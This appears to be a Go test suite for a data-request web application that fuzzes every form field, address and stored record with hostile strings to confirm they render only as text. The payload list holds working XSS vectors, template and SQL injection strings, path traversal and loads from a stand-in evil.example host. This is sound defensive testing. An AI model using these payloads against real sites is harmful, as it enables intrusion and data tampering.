package web_test

import (
	"fmt"
	"maps"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"golang.org/x/net/html"

	"habeas/internal/testbed"
	"habeas/models"
	"habeas/workflows"
)

// payloads are texts that would be code somewhere: in make soak 120 one by one,
// and in the suite as many of them in each text as a short field takes.
func payloads() []string {
	all := hostile()
	if testbed.Soak(0, 1) == 1 {
		return all
	}
	bundles := all[:1]
	for _, next := range all[1:] {
		if last := &bundles[len(bundles)-1]; len(*last)+1+len(next) <= shortest {
			*last += " " + next
		} else {
			bundles = append(bundles, next)
		}
	}
	return bundles
}

// hostile are strings that would be code somewhere, each with the canary.
func hostile() []string {
	shapes := []string{
		`<i>%s</i>`, `"><i>%s`, `'><i>%s`, `</textarea><i>%s`, `</title><i>%s`, `</select><i>%s`, `</option><i>%s`, `</script><i>%s`,
		`<script>%s</script>`, `<script src=//evil.example/%s></script>`, `<img src=x onerror=%s>`, `<svg onload=%s>`, `<svg/onload=%s>`, `<body onload=%s>`,
		`<iframe src=javascript:%s>`, `<a href=javascript:%s>x</a>`, `<form action=//evil.example><input name=%s>`, `<base href=//evil.example/%s>`,
		`<meta http-equiv=refresh content="0;url=//evil.example/%s">`, `<link rel=stylesheet href=//evil.example/%s>`, `<style>@import '//evil.example/%s'</style>`,
		`<math><mtext></table><mglyph><style><i>%s`, `<noscript><i>%s`, `<template><i>%s</template>`, `<!--><i>%s-->`, `<![CDATA[<i>%s]]>`, `<?xml <i>%s?>`,
		`{{printf "%%s" "<i>%s"}}`, `{{.Env}}<i>%s`, "{{`<i>%s`}}", `${<i>%s}`, `#{<i>%s}`, `<%%= <i>%s %%>`, `[[<i>%s]]`,
		`javascript:%s`, `data:text/html,<i>%s`, `vbscript:%s`, `" onfocus=%s autofocus x="`, `' onfocus=%s autofocus x='`, "` onfocus=%s autofocus x=`", `x onmouseover=%s`,
		`\"><i>%s`, `\x3ci\x3e%s`, `\u003ci\u003e%s`, `&lt;i&gt;%s`, `&#60;i&#62;%s`, `%%3Ci%%3E%s`, `+ADw-i+AD4-%s`, "<\u0130>%s", "\u2028<i>%s", "\u202e<i>%s", "\ufeff<i>%s",
		`=HYPERLINK("//evil.example/%s")`, `@import %s`, `expression(%s)`, `url(//evil.example/%s)`, `../../%s`, `'; DROP TABLE requests; -- %s`, `" OR 1=1 -- %s`, `%s%%n%%s%%x`,
	}
	var all []string
	for i, shape := range shapes {
		all = append(all, fmt.Sprintf(shape, fmt.Sprintf("canary%d", i)), strings.ToUpper(fmt.Sprintf(shape, fmt.Sprintf("canary%d", i))))
	}
	return all
}

// inert fails the test if a canary became anything but text or the value of a
// field.
func inert(t *testing.T, p *page, payload string) {
	t.Helper()
	for n := range p.doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if strings.Contains(strings.ToLower(n.Data), "canary") || slices.Contains([]string{"i", "base", "iframe", "style", "template", "math", "noscript"}, n.Data) {
			t.Errorf("%s: %q became the element <%s>", p.path(), payload, n.Data)
		}
		if n.Data == "svg" && !has(n, "viewbox") && !has(n, "viewBox") {
			t.Errorf("%s: %q became a drawing", p.path(), payload)
		}
		for _, a := range n.Attr {
			if n.Data == "a" && a.Key == "href" && has(n, "hreflang") && strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") {
				continue // this page in another language: its own address, encoded
			}
			if (strings.Contains(strings.ToLower(a.Key+a.Val), "canary") || strings.Contains(a.Val, "evil.example")) && (n.Data != "input" || a.Key != "value") {
				t.Errorf("%s: %q became <%s %s=%q>", p.path(), payload, n.Data, a.Key, a.Val)
			}
		}
	}
}

// withEach runs a test for every payload, several at a time: a wrong code takes
// its time.
func withEach(t *testing.T, try func(payload string)) {
	t.Helper()
	all := payloads()
	if n := strings.Count(strings.ToLower(strings.Join(all, " ")), "canary"); n < 120 {
		t.Fatalf("%d payloads", n)
	}
	room := make(chan bool, 8)
	var running sync.WaitGroup
	for _, payload := range all {
		room <- true
		running.Go(func() {
			defer func() { <-room }()
			try(payload)
		})
	}
	running.Wait()
}

// words reports a field that takes any words: what is typed there can be sent.
func words(n *html.Node) bool {
	name, kind := attr(n, "name"), attr(n, "type")
	return n.Data == "textarea" || n.Data == "input" && kind == "text" && !strings.HasSuffix(name, "email") && attr(n, "inputmode") == "" ||
		strings.HasSuffix(name, ".current") || strings.HasSuffix(name, ".requested")
}

// Whatever is typed into any field of any form stays text: shown again with
// what is wrong, by every button, and on the review where it can be sent.
func TestHostileStringsStayText(t *testing.T) {
	t.Parallel()
	b := newBed(t)
	forms := map[string]*form{}
	for _, kind := range b.service.Queries.Types("US", "CA") {
		forms[string(kind.Key)] = b.visitor().get("/requests/new/" + string(kind.Key)).form("Continue")
	}
	if len(forms) < 14 {
		t.Fatalf("%d forms", len(forms))
	}
	var reviewed atomic.Int64
	withEach(t, func(payload string) {
		v := b.visitor()
		for kind, f := range forms {
			all, fair := url.Values{}, maps.Clone(f.values)
			for _, n := range nodes(f.node, "input", "textarea", "select") {
				name := attr(n, "name")
				if !strings.HasSuffix(name, ".rows") {
					all.Set(name, payload)
				}
				if words(n) {
					fair.Set(name, short(payload))
				}
			}
			if len(all) < 10 {
				t.Fatalf("%s has %d fields", kind, len(all))
			}
			for _, do := range []string{"review", "add:corrections:" + payload} {
				all.Set("do", do)
				inert(t, v.post("/requests/new/"+kind, all), payload)
			}
			fair.Set("email", "robin@example.com")
			fair.Set("own_email", "ada@example.com")
			fair.Set("capacity", "agent")
			fair.Set("do", "review")
			review := v.post("/requests/new/"+kind, fair)
			if inert(t, review, payload); strings.Contains(review.text(), "Check before you send") {
				reviewed.Add(1)
			}
		}
	})
	if n := reviewed.Load(); n < int64(8*len(payloads())*9/10) {
		t.Errorf("%d reviews were shown", n)
	}
}

// So does what is in an address, in a code, and in what waits for one.
func TestHostileAddressesStayText(t *testing.T) {
	t.Parallel()
	b := newBed(t)
	withEach(t, func(payload string) {
		v, as := b.visitor(), url.QueryEscape(payload)
		for _, path := range []string{
			"/requests?reference=" + as, "/?country=" + as + "&region=" + as + "&lang=" + as, "/requests/HB-0000-0000-00?done=" + as,
			"/requests/HB-0000-0000-00/sent?type=" + as + "&on=" + as + "&country=" + as + "&files=" + as,
			"/requests/" + url.PathEscape(payload), "/requests/new/" + url.PathEscape(payload), "/requests/new/access?step=" + as,
		} {
			inert(t, v.get(path), payload)
		}
		of := "/tasks/" + newID()
		for _, path := range []string{of + "?done=" + as, "/tasks/" + url.PathEscape(payload)} {
			inert(t, v.get(path), payload)
		}
		for _, part := range []string{"/code", "/fresh-code", "/done"} {
			inert(t, v.post(of+part, url.Values{"code": {payload}, "form": {payload}, "text": {payload}, "outcome": {payload}, "reasons": {payload}, "seed": {payload}, "files": {payload}}), payload)
		}
		inert(t, v.post("/setup/"+b.setup, url.Values{"name": {payload}, "email": {payload}, "password": {payload}}), payload)
		pending := url.Values{"code": {payload}, "text": {payload}, "act": {payload}, "seed": {payload}}
		for _, part := range []string{"code", "fresh-code", "messages", "appeal", "withdraw", "confirm"} {
			inert(t, v.post("/requests/HB-0000-0000-00/"+part, pending), payload)
		}
		for _, act := range []string{"messages", "appeal"} {
			pending.Set("act", act)
			inert(t, v.post("/requests/HB-0000-0000-00/code", pending), payload)
		}
	})
}

// What was stored stays text, too: on the case page, in a question, in the
// answer, in an objection, in the name of a file.
func TestHostileRequestsStayText(t *testing.T) {
	t.Parallel()
	b := newBed(t)
	withEach(t, func(payload string) {
		v := b.visitor()
		sent := v.get("/requests/new/correction").form("Continue").fill(
			"name", short(payload), "email", "robin@"+newID()+".example", "details", payload, "capacity", "agent", "own_name", short(payload), "own_email", "ada@example.com",
			"authority", payload, "f.corrections.0.field", "company", "f.corrections.0.current", short(payload), "f.corrections.0.requested", short(payload),
		).press("Continue").want(200, "Check before you send").form("Send the request").attach(short(payload)+".txt", []byte("a text")).press("Send the request").want(200)
		reference := anyReference.FindString(sent.text())
		own := v.get("/requests/"+reference).form("Open my request").fill("code", b.code(reference)).press("Open my request").want(200, "We have your request")
		inert(t, own, payload)
		inert(t, own.form("Send").fill("text", payload).press("Send").want(200), payload)
		b.do(reference, "ann", workflows.Verify{Level: models.LevelReasonable, Method: "data_points"})
		b.do(reference, "ann", workflows.Start{})
		b.do(reference, "ann", workflows.Ask{Message: payload})
		inert(t, v.get("/requests/"+reference).want(200, "We have a question for you"), payload)
		b.do(reference, "ann", workflows.Resume{})
		b.do(reference, "ann", workflows.Conclude{Message: payload, Items: []workflows.ItemGiven{
			{No: 1, Outcome: models.OutcomeDenied, Reasons: []workflows.ReasonGiven{{Code: "accurate_data", Explanation: payload}}},
		}})
		b.do(reference, "bob", workflows.Approve{})
		inert(t, v.get("/requests/"+reference).want(200, "We cannot do this"), payload)
		appeal := v.get("/requests/"+reference+"/appeal").form("Send the objection").fill("text", payload)
		inert(t, appeal.press("Send the objection").want(200, "Another person looks"), payload)
	})
}

// shortest is how many bytes fit into every field, the name of a file too.
const shortest = 140

func short(s string) string { return strings.ToValidUTF8(s[:min(len(s), shortest)], "") }
